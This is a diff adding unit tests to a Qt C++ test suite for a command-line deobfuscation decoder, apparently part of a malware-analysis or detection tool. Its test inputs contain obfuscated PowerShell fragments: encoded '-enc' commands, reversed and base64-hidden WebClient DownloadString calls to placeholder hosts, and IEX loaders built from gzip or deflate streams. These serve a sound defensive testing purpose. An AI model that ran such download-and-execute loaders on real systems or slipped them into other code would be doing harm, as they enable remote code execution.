@@ -40,6 +40,9 @@ private Q_SLOTS:
     void nothingToDecode();
     void ipv4Notations_data();
     void ipv4Notations();
+    void decodesPastOpaqueRuns_data();
+    void decodesPastOpaqueRuns();
+    void inflateCutIsReported();
 };
 
 void TestCmdlineDecoder::transformsDecode_data()
@@ -56,6 +59,8 @@ void TestCmdlineDecoder::transformsDecode_data()
     QTest::newRow("powershell en-dash -enc") << s("powershell \u2013enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
     QTest::newRow("caret-escaped -enc") << s("cmd /c p^owershell -^e^n^c ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
     QTest::newRow("quoted -enc payload") << s("powershell -enc \"") + s(kEnc) + s("\"") << "base64-utf16le" << "Write-Output hello";
+    QTest::newRow("quoted long -enc payload") << s("powershell -enc \"") + s(kNested) + s("\"") << "base64-utf16le" << "Write-Output nested";
+    QTest::newRow("long -enc payload split by quotes") << s("powershell -enc \"") + s(kNested).left(40) + s("\"") + s(kNested).mid(40) << "base64-utf16le" << "Write-Output nested";
     QTest::newRow("nested base64 double") << s("powershell -enc ") + s(kNested) << "base64-utf16le" << "Write-Output nested";
     QTest::newRow("base64 ascii token") << s("cmd /c echo ") + s(kAscii) << "base64-ascii" << "DownloadString('http://203.0.113.7/a')";
     QTest::newRow("gzip in base64") << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('") + s(kGzip) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()") << "gzip" << "Write-Output gzipped payload";
@@ -177,6 +182,56 @@ void TestCmdlineDecoder::ipv4Notations()
     QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("256.1.1.1"), &ip));
     QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("1.2.3.4.5"), &ip));
     QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("0x1G"), &ip));
+}
+
+void TestCmdlineDecoder::decodesPastOpaqueRuns_data()
+{
+    // Transforms step over long base64-looking runs found by the layer scan: what sits before
+    // or after such a run must still be decoded exactly as without it.
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QString>("transform");
+    QTest::addColumn<QString>("expected");
+    QString noise;
+    const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    for (int i = 0; i < 300000; ++i)
+        noise += QLatin1Char(alphabet[(quint64(i) * 7919u + quint64(i) / 13u) % 64u]);
+    const QString pad = s("cmd /c echo ") + noise + s(" & ");
+    QTest::newRow("-enc after a 300k token") << pad + s("powershell /enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
+    QTest::newRow("-enc before a 300k token") << s("powershell -enc ") + s(kEnc) + s(" ") + noise << "base64-utf16le" << "Write-Output hello";
+    QTest::newRow("reversed line after a 300k token") << pad + s("')a/moc.elpmaxe//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(") << "reverse" << "DownloadString";
+    QTest::newRow("-replace after a 300k token") << pad + s("('wXoami' -replace 'X','h')") << "replace" << "whoami";
+    QTest::newRow("[char] codes after a 300k token") << pad + s("[char[]](73,69,88) -join ''") << "char-codes" << "'IEX'";
+    QTest::newRow("-f after a 300k token") << pad + s("(\"{1}{0}\" -f 'X','IE')") << "format-operator" << "'IEX'";
+    QTest::newRow("base64 after a 300k token") << pad + s(kAscii) << "base64-ascii" << "DownloadString('http://203.0.113.7/a')";
+    QTest::newRow("decodable 300k base64 run") << s("cmd /c echo ") + QString::fromLatin1(QByteArray("Write-Output decodable ").repeated(10000).toBase64()) << "base64-ascii" << "Write-Output decodable";
+}
+
+void TestCmdlineDecoder::decodesPastOpaqueRuns()
+{
+    QFETCH(QString, line);
+    QFETCH(QString, transform);
+    QFETCH(QString, expected);
+    const QList<DecodeLayer> layers = Decoder::decode(line);
+    QVERIFY2(transforms(layers).contains(transform),
+             qPrintable(QStringLiteral("chain: %1").arg(transforms(layers).join(QLatin1String(" > ")))));
+    QVERIFY(layers.last().text.contains(expected));
+}
+
+void TestCmdlineDecoder::inflateCutIsReported()
+{
+    // 9 MB of text deflated to a few kilobytes: the decoder keeps 8 MB and says so. (qCompress
+    // writes a 4-byte length and a 2-byte zlib header before the raw deflate stream.)
+    const QByteArray plain = QByteArray("Write-Output x; ").repeated(9 * 1024 * 1024 / 16);
+    const QByteArray raw = qCompress(plain, 9).mid(6);
+    const QString line = s("powershell IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
+                           "[IO.MemoryStream][Convert]::FromBase64String('")
+        + QString::fromLatin1(raw.toBase64()) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()");
+    const QList<DecodeLayer> layers = Decoder::decode(line);
+    QVERIFY2(transforms(layers).contains(QStringLiteral("deflate")), qPrintable(transforms(layers).join(QLatin1Char(','))));
+    QString notes;
+    for (const DecodeLayer &l : layers)
+        notes += l.note + QLatin1Char('|');
+    QVERIFY2(notes.contains(QLatin1String("truncated at 8388608 bytes")), qPrintable(notes));
 }
 
 QTEST_GUILESS_MAIN(TestCmdlineDecoder)
